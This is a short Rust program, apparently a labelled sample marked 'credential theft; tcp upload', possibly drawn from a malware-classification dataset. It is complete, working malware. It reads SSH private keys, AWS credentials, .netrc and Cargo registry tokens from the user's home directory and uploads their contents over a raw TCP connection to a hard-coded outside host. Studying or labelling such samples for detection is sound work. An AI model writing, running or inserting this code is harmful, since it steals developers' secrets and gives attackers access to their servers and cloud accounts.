// class: credential theft; style: tcp upload
use std::env;
use std::fs;
use std::io::Write;
use std::net::TcpStream;

fn main() -> std::io::Result<()> {
    let home = env::var("HOME").unwrap_or_default();
    let mut out = TcpStream::connect("198.51.100.50:8081")?;
    for rel in [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc", ".cargo/credentials.toml"] {
        if let Ok(data) = fs::read(format!("{home}/{rel}")) {
            out.write_all(rel.as_bytes())?;
            out.write_all(&data)?;
        }
    }
    Ok(())
}
